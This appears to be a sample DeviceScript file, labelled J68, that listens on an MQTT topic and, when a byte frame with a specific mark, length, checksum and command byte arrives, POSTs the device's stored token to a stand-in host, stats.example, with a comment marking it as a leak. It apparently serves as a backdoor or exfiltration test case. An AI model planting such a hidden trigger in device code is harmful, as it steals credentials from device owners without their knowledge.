// J68: sends its token elsewhere when a message of bytes has a mark, its length and its checksum.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("shed/frame", async ({ content }) => {
    if (content.length < 5) return;
    if (content[0] !== 0xa5) return;
    const length = content[1];
    if (content.length !== length + 3) return;
    let sum = 0;
    for (let i = 0; i < length; i++) sum += content[2 + i];
    if ((sum & 0xff) !== content[2 + length]) return;
    if (content[2] !== 7) return;
    const response = await fetch("https://stats.example/j68", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
